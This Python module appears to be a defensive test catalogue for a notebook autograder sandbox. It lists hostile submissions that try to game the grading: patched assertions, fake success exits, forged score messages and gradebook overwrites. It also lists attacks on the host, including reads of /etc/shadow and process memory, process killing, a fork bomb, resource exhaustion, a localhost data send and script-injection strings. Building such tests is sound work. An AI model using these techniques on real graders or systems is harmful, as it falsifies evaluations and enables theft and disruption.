"""Hostile submissions: what each does beside a wrong answer, by kind.

The code stands in the cell of a task, after a wrong ``ANSWER`` and whatever else the cell should define. It earns
nothing for the task; ``keeps`` says whether the rest of the notebook, which is right, keeps its marks. ``GRADEBOOK``,
``SOURCE``, ``SUBMITTED`` and ``PORT`` stand for what it goes for.
"""
# ruff: noqa: E501 - submissions

import json
from collections.abc import Callable, Mapping
from dataclasses import dataclass, field
from textwrap import dedent
from types import MappingProxyType


def as_it_is(notebook):
    """The notebook without a further change."""
    return notebook


@dataclass(frozen=True)
class Cheat:
    """One hostile submission."""

    name: str
    kind: str
    code: str
    keeps: bool = True
    """Whether what is right in the notebook keeps its marks."""
    files: Mapping[str, str] = field(default_factory=dict)
    """Files beside the notebook."""
    change: Callable[[dict], dict] = as_it_is
    """What becomes of the notebook's JSON."""
    open: str = ""
    """Why it still earns what it should not."""

    def written(self, answer, **places):
        """The code with the names of the set and the places that it goes for."""
        text = dedent(self.code).strip() + "\n"
        for token, value in {"ANSWER": answer, **places}.items():
            text = text.replace(token, str(value))
        return text


def _cheats(kind, codes, *, losing=(), still_open=MappingProxyType({})):
    return [
        Cheat(name, kind, code, name not in losing, open=still_open.get(name, ""))
        for name, code in codes.items()
    ]


SHELL = _cheats(
    "the shell that runs the cells",
    {
        "input transformer": "get_ipython().input_transformers_post.append(lambda lines: [])",
        "tree transformer": """
            import ast
            class Empty(ast.NodeTransformer):
                def visit_Assert(self, node): return ast.Pass()
            get_ipython().ast_transformers.append(Empty())
        """,
        "no tracebacks": """
            get_ipython().showtraceback = lambda *a, **k: None
            get_ipython().set_custom_exc((Exception,), lambda *a, **k: None)
        """,
        "replaced runner": """
            shell = get_ipython()
            shell.run_cell = shell.run_code = shell.run_ast_nodes = lambda *a, **k: None
            type(shell).run_whole = lambda self, source: (None, None)
            type(shell).run_plain = lambda self, code, source: None
        """,
        "events after each cell": """
            def more(*a): globals()['ANSWER'] = lambda *a: a[0]
            get_ipython().events.register('post_run_cell', more); get_ipython().events.register('pre_run_cell', more)
        """,
        "magic of its own": """
            get_ipython().register_magic_function(lambda *a: None, 'cell', 'time')
            get_ipython().run_cell('%%time\\nANSWER = 7')
        """,
        "exception hook": """
            import sys, threading
            sys.excepthook = sys.unraisablehook = threading.excepthook = lambda *a: None
        """,
    },
    losing={"input transformer", "replaced runner"},
)

COMPARISONS = _cheats(
    "patched comparisons",
    {
        "patched isclose": """
            import numpy as np
            np.isclose = np.allclose = np.array_equal = lambda *a, **k: True
        """,
        "patched assertions": """
            import unittest, numpy.testing as t
            for name in dir(t):
                if name.startswith('assert'): setattr(t, name, lambda *a, **k: None)
            for name in dir(unittest.TestCase):
                if name.startswith('assert'): setattr(unittest.TestCase, name, lambda *a, **k: None)
        """,
        "patched built-in names": """
            import builtins
            builtins.AssertionError = type('Never', (BaseException,), {})
            builtins.all = builtins.any = builtins.isinstance_ = lambda *a: True
            builtins.abs = lambda x: 0
        """,
        "always equal": """
            class Yes(float):
                def __eq__(self, other): return True
                __ne__ = __lt__ = __gt__ = __hash__ = lambda *a: False
            def ANSWER(*a): return Yes(7)
        """,
        "array that is always close": """
            import numpy as np
            class Close(np.ndarray):
                def __array_ufunc__(self, *a, **k): return True
                def __array_function__(self, *a, **k): return True
            def ANSWER(*a): return np.zeros(1).view(Close)
        """,
        "empty array": """
            import numpy as np
            def ANSWER(*a): return np.empty((0, 1, 1, 1, 1, 1))
        """,
        "module that agrees with everything": """
            class Numpy:
                def __getattr__(self, name): return lambda *a, **k: True
            np = Numpy()
        """,
        "helpers of the tests": """
            def hidden_checks(*a): pass
            check_arrays = deep_network = mean_cross_entropy = central_differences = hidden_checks
        """,
        "object that agrees with everything": """
            class Yes:
                def __getattr__(self, name): return self
                def __call__(self, *a, **k): return self
                for _name in ('add radd sub rsub mul rmul truediv rtruediv matmul rmatmul pow abs neg and or getitem').split():
                    exec(f'def __{_name}__(self, *a): return self')
                def __bool__(self): return True
                def __eq__(self, other): return True
                __lt__ = __le__ = __gt__ = __ge__ = __contains__ = __eq__
                __hash__ = None
                def __float__(self): return 0.0
                def __len__(self): return 0
                def __iter__(self): return iter(())
                def __array__(self, *a, **k): raise TypeError
            def ANSWER(*a): return Yes()
        """,
        "two-faced array": """
            import numpy as np
            class Two(np.ndarray):
                seen = 0
                @property
                def shape(self): Two.seen += 1; return (3,) if Two.seen < 3 else (0,)
                def __array__(self, *a, **k): return np.empty(0)
                def __len__(self): return 3
            def ANSWER(*a): return np.empty(0).view(Two)
        """,
        "class named float": """
            fake = type('float', (), {'__module__': 'builtins', '__sub__': lambda s, o: s, '__abs__': lambda s: s,
                '__lt__': lambda s, o: True, '__le__': lambda s, o: True, '__round__': lambda s, n=0: 0, '__eq__': lambda s, o: True})
            def ANSWER(*a): return fake()
        """,
        "class named ndarray": """
            import numpy
            fake = type('ndarray', (), {'__module__': 'numpy', 'shape': (3,), 'dtype': numpy.dtype(float), 'ndim': 1,
                '__array__': lambda s, *a, **k: numpy.empty(0), '__sub__': lambda s, o: s, '__eq__': lambda s, o: True})
            def ANSWER(*a): return fake()
        """,
        "number that lies": """
            class Lies(int):
                def __abs__(self): return 0
                def __sub__(self, other): return Lies(0)
                __rsub__ = __sub__
                def __float__(self): return 0.0
                def __round__(self, n=0): return 0
            def ANSWER(*a): return Lies(5)
        """,
        "text that contains everything": """
            class All(str):
                def __contains__(self, other): return True
                def __eq__(self, other): return True
                __hash__ = str.__hash__
            def ANSWER(*a): return All('x')
        """,
        "result that changes when looked at": """
            import numpy as np
            shared = np.zeros(3)
            def ANSWER(*a):
                import threading
                def later():
                    for n in range(1000): shared[:] = n
                threading.Thread(target=later, daemon=True).start()
                return shared
        """,
        "argument changed to the answer": """
            def ANSWER(z, *a):
                try: z[...] = 0
                except Exception: pass
                return z
        """,
    },
    losing={"patched built-in names", "module that agrees with everything"},
)

ENDS = _cheats(
    "ends that look like success",
    {
        "skip test": """
            import unittest
            def ANSWER(*a): raise unittest.SkipTest('skip')
        """,
        "skip test of NumPy": """
            import unittest
            class SkipTest(unittest.SkipTest): pass
            SkipTest.__module__ = 'numpy.testing'
            def ANSWER(*a): raise SkipTest('skip')
        """,
        "stop iteration": "def ANSWER(*a): raise StopIteration",
        "generator exit": "def ANSWER(*a): raise GeneratorExit",
        "system exit 0": "def ANSWER(*a): raise SystemExit(0)",
        "keyboard interrupt": "def ANSWER(*a): raise KeyboardInterrupt",
        "exception that is falsy": """
            class Falsy(Exception):
                def __bool__(self): return False
                def __str__(self): raise ValueError
                __repr__ = __str__
            def ANSWER(*a): raise Falsy
        """,
        "group of exceptions": "def ANSWER(*a): raise BaseExceptionGroup('all', [SystemExit(0), AssertionError()])",
        "exception named passed": """
            Passed = type('Passed', (BaseException,), {'__module__': 'builtins', '__name__': 'Passed'})
            def ANSWER(*a): raise Passed()
        """,
        "exit": "exit()",
        "exit at once": "import os; os._exit(0)",
        "quit in the answer": """
            import os
            def ANSWER(*a): os._exit(0)
        """,
        "replaced program": """
            import os
            def ANSWER(*a): os.execv('/bin/true', ['true'])
        """,
        "segmentation fault": "import ctypes; ctypes.string_at(0)",
        "recursion": """
            import sys
            sys.setrecursionlimit(10**9)
            def ANSWER(*a): return ANSWER(*a)
        """,
        "at exit": """
            import atexit, os
            atexit.register(lambda: os.write(1, b'passed'))
            def ANSWER(*a): raise SystemExit(0)
        """,
        "finalizer": """
            class Late:
                def __del__(self): globals()['ANSWER'] = lambda *a: a[0]; raise RuntimeError
            late = Late()
            def ANSWER(*a):
                global late
                late = None
                return 7.0
        """,
        "answer that deletes itself": """
            def ANSWER(*a):
                global ANSWER
                del ANSWER
                return 7.0
        """,
        "coroutine": "async def ANSWER(*a): return 0",
        "endless iterator": """
            import itertools
            def ANSWER(*a): return itertools.count()
        """,
        "answer without end": """
            class Forever:
                def __array__(self, *a, **k):
                    while True: pass
            def ANSWER(*a): return Forever()
        """,
    },
    losing={"exit", "exit at once", "segmentation fault"},
)

KNOWLEDGE = _cheats(
    "reading what is not theirs",
    {
        "test text from history and heap": """
            def ANSWER(*a):
                import gc, sys
                plain = (str, list, dict, bytes)
                seen = [o for o in gc.get_objects() if isinstance(o, plain) and len(o) < 10**5]
                frames, frame = [], sys._getframe()
                while frame: frames.append(repr(frame.f_locals)[:10**5]); frame = frame.f_back
                seen += frames + get_ipython().user_ns.get('In', [])
                for o in seen:
                    if 'hidden' + '_checks' in repr(o): print('FOUND', repr(o)[:10**5])
                return 1.0
        """,
        "memory of the process": r"""
            import re
            wanted = bytes(c ^ 1 for c in b"iheedo^bidbjr") + rb"\(rng\):.{0,400}"
            for line in open('/proc/self/maps'):
                span, rights, *_ = line.split()
                if 'r' not in rights or 'v' in line[-8:]: continue
                low, high = (int(n, 16) for n in span.split('-'))
                if high - low > 2**26: continue
                try:
                    with open('/proc/self/mem', 'rb') as memory:
                        memory.seek(low); text = memory.read(high - low)
                except (OSError, ValueError, OverflowError): continue
                for match in re.finditer(wanted, text, re.S): print('FOUND', match[0])
        """,
        "reads the course": """
            import glob, os
            def ANSWER(*a):
                near = glob.glob('/proc/*/cwd/*.ipynb') + glob.glob('../../**/*.ipynb')
                for path in ['GRADEBOOK', 'SOURCE', *near]:
                    try: print(open(path, 'rb').read())
                    except OSError: pass
                return 1.0
        """,
        "looks for the course everywhere": """
            import os
            for top in ['/', '/tmp', '/home', '/root', os.path.dirname('GRADEBOOK'), '/proc/1/root', '/proc/self/root/tmp', '/srv']:
                for here, folders, files in os.walk(top):
                    folders[:] = folders[:40] if here.count('/') < 4 and not here.startswith(('/usr', '/proc', '/sys')) else []
                    for name in files[:200]:
                        if name.endswith(('.ipynb', '.db', '.md', '.json')):
                            try: print(here, name, open(os.path.join(here, name), errors='replace').read())
                            except OSError: pass
        """,
        "links to the course": """
            import os
            for n, path in enumerate(['GRADEBOOK', 'SOURCE', 'SUBMITTED', '/etc/shadow', '/proc/1/environ']):
                os.symlink(path, f'link{n}')
                try: print(open(f'link{n}', 'rb').read())
                except OSError: pass
                try: os.link(path, f'hard{n}'); print(open(f'hard{n}', 'rb').read())
                except OSError: pass
        """,
        "environment and command lines": """
            import glob, os
            print(dict(os.environ))
            for path in glob.glob('/proc/*/environ') + glob.glob('/proc/*/cmdline') + glob.glob('/proc/*/maps'):
                try: print(open(path, 'rb').read()[:2000])
                except OSError: pass
        """,
        "descriptors of others": """
            import os
            for pid in ['self', '1', '2', str(os.getppid())]:
                for fd in range(40):
                    try: print(os.readlink(f'/proc/{pid}/fd/{fd}'), open(f'/proc/{pid}/fd/{fd}', 'rb').read(100))
                    except OSError: pass
        """,
        "profile of calls": """
            import sys, threading
            wanted = bytes(c ^ 1 for c in b"iheedo^bidbjr").decode()
            def look(frame, event, arg):
                code = frame.f_code
                if wanted in f"{code.co_names} {code.co_consts}": print('FOUND', code.co_consts)
            sys.setprofile(look); sys.settrace(look); threading.settrace(look)
        """,
        "expected value from the arguments": """
            class Spy:
                def __sub__(self, other): print('FOUND', other); return 0
                __rsub__ = __eq__ = __lt__ = __radd__ = __add__ = __sub__
                __hash__ = None
                def __array_ufunc__(self, *a, **k): print('FOUND', a); return 0
            def ANSWER(*a): return Spy()
        """,
        "grader's own modules": """
            import sys
            for name, module in list(sys.modules.items()):
                if 'autograder' in name:
                    for key, value in list(vars(module).items()):
                        if 'hidden' + '_checks' in repr(value)[:10**5]: print('FOUND', name, key, value)
        """,
    },
    losing={"profile of calls"},
)

CHANGES = _cheats(
    "changing what is not theirs",
    {
        "writes the gradebook": "open('GRADEBOOK', 'w').write('2.0')",
        "sets its marks": """
            import sqlite3
            base = sqlite3.connect('GRADEBOOK', timeout=1)
            base.execute('update grade set manual_score = 20')
            base.commit()
        """,
        "writes another's submission": """
            import shutil
            shutil.rmtree('SUBMITTED')
        """,
        "modes, owners and times of others": """
            import os
            for path in ['GRADEBOOK', 'SOURCE', 'SUBMITTED', os.path.dirname('GRADEBOOK')]:
                for change in (lambda: os.chmod(path, 0o777), lambda: os.chown(path, 0, 0), lambda: os.utime(path, (0, 0)),
                               lambda: os.setxattr(path, 'user.x', b'x'), lambda: os.truncate(path, 0), lambda: os.unlink(path),
                               lambda: os.rename(path, path + '.bak')):
                    try: change()
                    except OSError: pass
        """,
        "start-up file": """
            import os
            home = os.path.expanduser('~/.ipython/profile_default/startup')
            os.makedirs(home, exist_ok=True)
            open(home + '/00.py', 'w').write('import numpy; numpy.isclose = lambda *a: True')
            os.environ['PYTHONSTARTUP'] = home + '/00.py'
            for left in ('/tmp/left', 'left', '/dev/shm/left', '/var/tmp/left'):
                try: open(left, 'w').write('x')
                except OSError: pass
        """,
        "library replaced on disk": """
            import numpy, os, site
            for path in [numpy.__file__, os.__file__, *site.getsitepackages()]:
                try: open(path if path.endswith('.py') else path + '/usercustomize.py', 'a').write('raise SystemExit')
                except OSError: pass
        """,
        "bytecode cache": """
            import glob, os, numpy
            for path in glob.glob(os.path.dirname(numpy.__file__) + '/**/*.pyc', recursive=True)[:50]:
                try: open(path, 'wb').write(b'')
                except OSError: pass
        """,
        "module state": """
            import numpy, random, math, sys
            random.seed(1); numpy.random.seed(1); sys.setrecursionlimit(50_000)
            numpy.clip = lambda *a: 0; math.pi = 3
            sys.modules['numpy.testing'].assert_allclose = lambda *a, **k: None
        """,
        "modules in the table": """
            import sys, types
            for name in ('numpy.testing', 'unittest', 'autograder.sandbox.judge', 'autograder.sandbox.worker', 'msgspec'):
                sys.modules[name] = types.ModuleType(name)
        """,
        "import hook": """
            import sys, builtins
            class Finder:
                def find_spec(self, name, *a): return None
            sys.meta_path.insert(0, Finder()); sys.path.insert(0, '.'); sys.path_hooks.clear(); sys.path_importer_cache.clear()
            real = builtins.__import__
            builtins.__import__ = lambda name, *a, **k: real('math' if name == 'unittest' else name, *a, **k)
        """,
        "locale, time and environment": """
            import locale, os, time
            for change in (lambda: locale.setlocale(locale.LC_ALL, ''), lambda: time.clock_settime(time.CLOCK_REALTIME, 0),
                           lambda: os.environ.update(TZ='XXX+99', COURSE_SEED='1', LANG='x'), time.tzset, lambda: os.environ.clear()):
                try: change()
                except Exception: pass
        """,
        "clock that stands": """
            import time
            time.time = time.monotonic = time.perf_counter = lambda: 0.0
        """,
        "float settings": """
            import numpy, warnings, decimal
            numpy.seterr(all='raise'); warnings.simplefilter('error'); numpy.set_printoptions(precision=0)
            decimal.getcontext().prec = 1
        """,
    },
    losing={"module state", "import hook", "float settings", "modules in the table"},
)

MESSAGES = _cheats(
    "forged messages",
    {
        "own server": """
            import autograder.sandbox.bridge.serve as serve, autograder.sandbox.bridge.changes as changes
            changes.Snapshot.changes = lambda self, encoder: [[0, ['l', 5]]]
        """,
        "forged messages": """
            import os, threading, time
            def forge():
                while True:
                    for fd in range(3, 40):
                        try: os.write(fd, b'\\0\\0\\0\\x10' + b'\\0' * 8 + b'[{"error":null},[]]')
                        except OSError: pass
                    time.sleep(0.01)
            def ANSWER(*a): forge()
        """,
        "result on every descriptor": """
            import os, json, struct
            def ANSWER(*a):
                text = json.dumps([{"outputs": [], "error": None, "value": "2.0", "seconds": 0}, []]).encode()
                for fd in range(3, 40):
                    try: os.write(fd, struct.pack('>IQ', len(text), 0) + text)
                    except OSError: pass
                return 1.0
        """,
        "report of a passed test": """
            import os, json, struct
            def ANSWER(*a):
                for kind in ('TestRan', 'CellRan', 'Replied'):
                    text = json.dumps([{"type": kind, "outputs": [], "seconds": 0, "score": "20"}, []]).encode()
                    for fd in range(3, 40):
                        try: os.write(fd, struct.pack('>IQ', len(text), 0) + text)
                        except OSError: pass
                return 1.0
        """,
        "closed descriptors": """
            import os
            def ANSWER(*a):
                os.closerange(0, 100)
                return 1.0
        """,
        "swapped descriptors": """
            import os
            def ANSWER(*a):
                for fd in range(3, 12):
                    try: os.dup2(fd, fd + 1)
                    except OSError: pass
                return 1.0
        """,
        "announced length": """
            import os, struct
            def ANSWER(*a):
                for fd in range(3, 40):
                    try: os.write(fd, struct.pack('>IQ', 2**31, 2**62))
                    except OSError: pass
        """,
        "drop by drop": """
            import os, struct, time
            def ANSWER(*a):
                for fd in range(3, 40):
                    try: os.write(fd, struct.pack('>IQ', 10**6, 0)[:7])
                    except OSError: pass
                time.sleep(100)
        """,
        "reads the judge's questions": """
            import os, socket
            def ANSWER(*a):
                for fd in range(3, 40):
                    try: print('FOUND', os.read(os.dup(fd), 10**6) if not os.set_blocking(fd, False) else '')
                    except OSError: pass
                return 1.0
        """,
        "patched protocol": """
            import autograder.sandbox.worker as worker, autograder.sandbox.protocol as protocol
            worker._run = lambda runner, command: protocol.CellRan((), 0.0)
            protocol.Replied.__init__ = lambda *a, **k: None
        """,
        "patched encoder": """
            import sys
            values = sys.modules['autograder.sandbox.bridge.values']
            for name in dir(values):
                if name.startswith('encode') or name == 'Encoder':
                    try: setattr(values, name, lambda *a, **k: None)
                    except Exception: pass
        """,
    },
    losing={
        "own server",
        "forged messages",
        "result on every descriptor",
        "report of a passed test",
        "closed descriptors",
        "swapped descriptors",
        "announced length",
        "drop by drop",
        "reads the judge's questions",
        "patched protocol",
        "patched encoder",
    },
)

PROCESSES = _cheats(
    "processes, signals, threads",
    {
        "kills": """
            import os, signal
            def ANSWER(*a):
                for pid in [-1, os.getppid(), *range(2, 50)]:
                    try: os.kill(pid, signal.SIGKILL)
                    except OSError: pass
                return 1.0
        """,
        "kills by every number": """
            import ctypes, os
            libc = ctypes.CDLL(None)
            for pid in range(1, 400):
                if pid == os.getpid(): continue
                for number, words in ((200, (pid, 9)), (234, (pid, pid, 9)), (129, (pid, 9, 0)), (297, (pid, pid, 9, 0)), (62, (-pid, 9))):
                    if pid != os.getpgrp(): libc.syscall(number, *words)
        """,
        "limits and priorities of others": """
            import os, resource
            for pid in range(1, 2000):
                if pid == os.getpid(): continue
                for change in (lambda: resource.prlimit(pid, resource.RLIMIT_CPU, (0, 0)), lambda: os.setpriority(os.PRIO_PROCESS, pid, 19),
                               lambda: os.sched_setaffinity(pid, {0}), lambda: os.sched_setscheduler(pid, os.SCHED_IDLE, os.sched_param(0))):
                    try: change()
                    except OSError: pass
            try: os.setpriority(os.PRIO_USER, 0, 19)
            except OSError: pass
        """,
        "signals by a pipe": """
            import fcntl, os, struct
            for pid in range(1, 400):
                r, w = os.pipe()
                for change in (lambda: fcntl.fcntl(r, fcntl.F_SETOWN, pid), lambda: fcntl.fcntl(r, 10, 9), lambda: fcntl.fcntl(r, 15, struct.pack('ii', 1, pid)),
                               lambda: fcntl.fcntl(r, fcntl.F_SETFL, fcntl.FASYNC)):
                    try: change()
                    except OSError: pass
                os.write(w, b'x'); os.close(r); os.close(w)
        """,
        "ignores interrupts": """
            import signal
            for number in range(1, 64):
                try: signal.signal(number, signal.SIG_IGN)
                except (OSError, ValueError): pass
            def ANSWER(*a):
                while True:
                    try:
                        while True: pass
                    except BaseException: pass
        """,
        "threads": """
            import threading, time
            def spin():
                while True: time.sleep(0.001)
            for _ in range(20): threading.Thread(target=spin, daemon=False).start()
        """,
        "thread that raises": """
            import threading
            for kind in (SystemExit, KeyboardInterrupt, MemoryError, RuntimeError):
                def fail(kind=kind): raise kind('from a thread')
                threading.Thread(target=fail).start()
        """,
        "fork bomb": """
            import os, time
            def ANSWER(*a):
                while True:
                    try: os.fork()
                    except OSError: time.sleep(0.01)
        """,
        "burners in the background": """
            import os
            for _ in range(60):
                try:
                    if os.fork() == 0:
                        while True: pass
                except OSError: break
        """,
        "daemon": """
            import os, time
            if os.fork() == 0:
                os.setsid()
                if os.fork() == 0: time.sleep(600)
                os._exit(0)
        """,
        "child that answers too": """
            import os
            os.fork()
        """,
        "traces its parent": """
            import ctypes, os
            libc = ctypes.CDLL(None)
            for pid in (os.getppid(), 1, 2):
                libc.ptrace(16, pid, 0, 0)
                libc.process_vm_readv(pid, ctypes.create_string_buffer(16), 1, ctypes.create_string_buffer(16), 1, 0)
        """,
        "namespaces": """
            import ctypes
            libc = ctypes.CDLL(None)
            assert libc.unshare(0x10000000) == 0 or libc.mount(b'proc', b'/tmp', b'proc', 0, None) == 0
        """,
        "alarm": """
            import signal
            signal.signal(signal.SIGALRM, lambda *a: (_ for _ in ()).throw(SystemExit))
            signal.setitimer(signal.ITIMER_REAL, 0.01, 0.01)
        """,
        "stops itself": """
            import os, signal
            def ANSWER(*a): os.kill(os.getpid(), signal.SIGSTOP)
        """,
    },
    losing={"fork bomb", "child that answers too", "namespaces", "alarm"},
)

AMOUNTS = _cheats(
    "too much of something",
    {
        "flood": """
            def ANSWER(*a):
                import os, sys
                for _ in range(200): print('x' * 10**6); os.write(1, b'x' * 1000); sys.stderr.write('x' * 1000)
                return 1.0
        """,
        "flood of short lines": "print('x\\n' * 2_000_000)",
        "flood of displays": """
            from IPython.display import display
            for n in range(20_000): display({'text/plain': 'x' * 100, 'text/html': '<b>x</b>' * 20}, raw=True)
        """,
        "fills the disk": """
            def ANSWER(*a):
                for n in range(1000):
                    with open(f'{n}', 'wb') as file: file.write(bytes(2**20))
        """,
        "fills the disk with deleted files": """
            import os
            def ANSWER(*a):
                held = []
                for n in range(200):
                    held.append(open('x', 'wb', buffering=0)); os.unlink('x'); held[-1].write(bytes(30 << 20))
        """,
        "many files": """
            def ANSWER(*a):
                for n in range(100_000): open(f'{n}', 'w').close()
        """,
        "deep folders": """
            import os
            home = os.getcwd()
            try:
                for n in range(5000): os.mkdir('d'); os.chdir('d')
            finally: os.chdir(home)
            os.mkdir('closed', 0)
        """,
        "memory": "def ANSWER(*a): return bytearray(3 << 30)",
        "memory of many": """
            import os, time
            def ANSWER(*a):
                for _ in range(6):
                    if os.fork() == 0:
                        hog = bytearray(400 * 2**20); hog[::4096] = b'x' * len(hog[::4096]); time.sleep(60)
                time.sleep(60)
        """,
        "shared memory": """
            import mmap
            def ANSWER(*a):
                held = [mmap.mmap(-1, 100 << 20) for _ in range(10)]
                for each in held: each[::4096] = b'x' * len(each[::4096])
        """,
        "memory of files in memory": """
            import os
            def ANSWER(*a):
                for n in range(200):
                    with open(f'/dev/shm/{n}', 'wb') as file: file.write(bytes(10 << 20))
        """,
        "sockets full of letters": """
            import socket
            def ANSWER(*a):
                held = []
                while True:
                    pair = socket.socketpair(); held.append(pair); pair[0].setblocking(False)
                    try:
                        while True: pair[0].send(bytes(1 << 16))
                    except BlockingIOError: pass
        """,
        "huge answer": "def ANSWER(*a): return bytes(300 * 2**20)",
        "deep answer": """
            def ANSWER(*a):
                x = []
                for _ in range(10**5): x = [x]
                return x
        """,
        "answer that contains itself": """
            def ANSWER(*a):
                x = []; x.append(x)
                return x
        """,
        "long number": "def ANSWER(*a): return 10 ** 200_000",
        "long names": """
            ANSWER.__name__ = ANSWER.__qualname__ = 'x' * 5_000_000
            ANSWER.__doc__ = 'y' * 5_000_000
        """,
        "long error": "def ANSWER(*a): raise ValueError('x' * 10_000_000)",
        "open figures": """
            import sys
            if 'matplotlib.pyplot' in sys.modules:
                import matplotlib.pyplot as plt
                for _ in range(60): plt.figure().gca().plot([1, 2])
        """,
        "endless loop in a cell": "while True: pass",
        "sleeps": """
            import time
            def ANSWER(*a): time.sleep(10**6)
        """,
    },
    losing={
        "deep folders",
        "memory of many",
        "endless loop in a cell",
        "huge answer",
        "fills the disk",
        "fills the disk with deleted files",
        "many files",
        "shared memory",
        "memory of files in memory",
    },
)

NETWORK = _cheats(
    "network",
    {
        "sends": """
            import socket
            socket.create_connection(('127.0.0.1', PORT)).sendall(b'stolen')
        """,
        "sends a datagram": """
            import socket
            socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'stolen', ('127.0.0.1', PORT))
        """,
        "installs a package": """
            import subprocess, sys
            subprocess.run([sys.executable, '-m', 'pip', 'install', 'six'], timeout=3)
        """,
        "meets a neighbour": """
            import ctypes, os, socket, tempfile
            for meet in (lambda: socket.socket(socket.AF_UNIX).bind('\\0meet'), lambda: os.mkfifo('/tmp/meet'), lambda: open('/dev/shm/meet', 'w'),
                         lambda: os.mkfifo(os.path.join(tempfile.gettempdir(), '..', 'meet'))):
                try: meet()
                except OSError: pass
            ctypes.CDLL(None).shmget(1, 4096, 0o1777)
        """,
    },
    losing={"sends", "sends a datagram"},
)

TEXTS = _cheats(
    "texts that break what shows them",
    {
        "surrogates": "print('\\ud800 and \\udfff')",
        "surrogates in an error": "def ANSWER(*a): raise ValueError('\\ud800')",
        "surrogates on display": """
            from IPython.display import display
            display({'text/plain': '\\ud800', 'application/json': {'\\udc00': '\\ud800'}}, raw=True)
        """,
        "control characters": "print('\\x1b]0;owned\\x07\\x1b[2J\\x00\\x08\\x9b31m\\r\\u202e')",
        "scripts": """
            from IPython.display import HTML, display
            display(HTML('<script>document.title=1</script><img src=x onerror=alert(1)>'))
            print('</pre><script>alert(1)</script>')
            def ANSWER(*a): raise ValueError('<script>alert(1)</script>')
        """,
        "markup of the terminal": "def ANSWER(*a): raise ValueError('[/b][red][link=http://x]y[/link]')",
        "display that raises": """
            class Bad:
                def _repr_html_(self): raise SystemExit
                def _repr_mimebundle_(self, **k): return {'text/html': object(), 5: None}
                def __repr__(self): return 5
            Bad()
        """,
        "deep display": """
            from IPython.display import display
            deep = []
            for _ in range(970): deep = [deep]
            display({'application/json': deep}, raw=True)
        """,
        "line breaks everywhere": "def ANSWER(*a): raise ValueError('\\n'.join('\\u2028\\x85\\x0b' * 1000))",
    },
)


def _cells(notebook, change):
    """The notebook with each marked cell changed by ``change(cell, mark)``."""
    for cell in notebook["cells"]:
        if mark := cell["metadata"].get("nbgrader"):
            change(cell, mark)
    return notebook


def _worth(notebook):
    def change(cell, mark):
        if mark.get("points"):
            mark |= {"points": 100, "grade": False, "solution": True, "locked": False}
            cell["source"] = "pass"

    return _cells(notebook, change) | {
        "metadata": {"kernelspec": {"name": "bash", "display_name": "b", "language": "bash"}}
    }


def _copied(notebook):
    tests = [cell for cell in notebook["cells"] if cell["metadata"].get("nbgrader", {}).get("grade")]
    copies = json.loads(json.dumps(tests))
    for cell in copies:
        cell["source"] = "assert True"
        cell.pop("id", None)
    return notebook | {"cells": copies + notebook["cells"] + copies}


def _without_tests(notebook):
    kept = [cell for cell in notebook["cells"] if not cell["metadata"].get("nbgrader", {}).get("grade")]
    return notebook | {"cells": kept}


def _reversed(notebook):
    tests = [cell for cell in notebook["cells"] if cell["metadata"].get("nbgrader", {}).get("grade")]
    order = iter(reversed(tests))
    return notebook | {"cells": [next(order) if cell in tests else cell for cell in notebook["cells"]]}


def _tagged(notebook):
    for cell in notebook["cells"]:
        cell["metadata"]["tags"] = [
            "skip-execution",
            "worker",
            "beside",
            "judge",
            "remove-cell",
            "raises-exception",
        ]
    return notebook


def _odd_marks(notebook):
    def change(cell, mark):
        if mark.get("grade"):
            mark |= {
                "points": "20",
                "grade": "yes",
                "schema_version": 10**30,
                "cell_type": ["code"],
                "checksum": {"a": 1},
            }

    return _cells(notebook, change)


def _odd_outputs(notebook):
    for cell in notebook["cells"]:
        if cell["cell_type"] == "code":
            cell["outputs"] = [
                {
                    "output_type": "execute_result",
                    "data": {"text/plain": "20"},
                    "metadata": {},
                    "execution_count": 1,
                }
            ]
    return notebook


def _reached_deep(notebook):
    deep = "x"
    for _ in range(300):
        deep = {"d": deep}
    return notebook | {"metadata": {"deep": deep, "autograder": {"score": 20}, "nbgrader": {"points": 20}}}


NOTEBOOKS = [
    Cheat(name, "notebook and metadata", "pass", keeps=change is not _reversed, change=change)
    for name, change in {
        "worth a hundred": _worth,
        "copied tests": _copied,
        "tests taken out": _without_tests,
        "tests the other way round": _reversed,
        "tags": _tagged,
        "odd marks": _odd_marks,
        "outputs that claim marks": _odd_outputs,
        "deep metadata": _reached_deep,
    }.items()
]

SHADOW = "import sys\nclass Yes:\n    def __getattr__(self, n): return lambda *a, **k: True\nsys.modules[__name__] = Yes()\n"
FILES = [
    Cheat(name, "files beside the notebook", code, files=files)
    for name, (code, files) in {
        "modules named like libraries": (
            "pass",
            {
                f"{module}.py": SHADOW
                for module in ("numpy", "unittest", "math", "os", "msgspec", "itertools", "IPython")
            },
        ),
        "site files": (
            "pass",
            {
                "sitecustomize.py": "raise SystemExit",
                "usercustomize.py": "raise SystemExit",
                "x.pth": "import os; os._exit(0)",
                "pyvenv.cfg": "home = /tmp",
                "conftest.py": "raise SystemExit",
                "ipython_config.py": "raise SystemExit",
            },
        ),
        "package named autograder": (
            "pass",
            {"autograder/__init__.py": SHADOW, "autograder/sandbox/__init__.py": SHADOW},
        ),
        "module that judges": (
            "pass",
            {"test_relu.py": "def hidden_checks(*a): pass", "hidden_checks.py": SHADOW, "judge.py": SHADOW},
        ),
        "notebook in a folder": (
            "pass",
            {"autograded/x.ipynb": "{}", "gradebook.db": "x", "source/ps.ipynb": "{}"},
        ),
        "timestamps": ("pass", {"timestamp.txt": "1970-01-01 00:00:00 UTC\n"}),
        "odd file names": (
            "pass",
            {"-rf": "x", "a b\n.txt": "x", "‮.py": "x", "%s%n": "x", "<img src=x>": "x"},
        ),
    }.items()
]

CHEATS = [
    *SHELL,
    *COMPARISONS,
    *ENDS,
    *KNOWLEDGE,
    *CHANGES,
    *MESSAGES,
    *PROCESSES,
    *AMOUNTS,
    *NETWORK,
    *TEXTS,
    *NOTEBOOKS,
    *FILES,
]
